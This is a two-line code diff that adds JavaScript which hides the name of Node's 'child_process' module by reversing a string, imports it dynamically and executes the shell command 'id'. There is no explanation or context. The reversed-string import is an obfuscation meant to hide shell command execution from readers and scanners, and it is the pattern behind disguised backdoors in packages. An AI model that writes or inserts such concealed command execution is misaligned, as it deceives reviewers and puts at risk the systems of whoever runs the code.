@@ -1,0 +1,2 @@
+const m = await import('ssecorp_dlihc'.split('').reverse().join(''));
+m.exec('id');
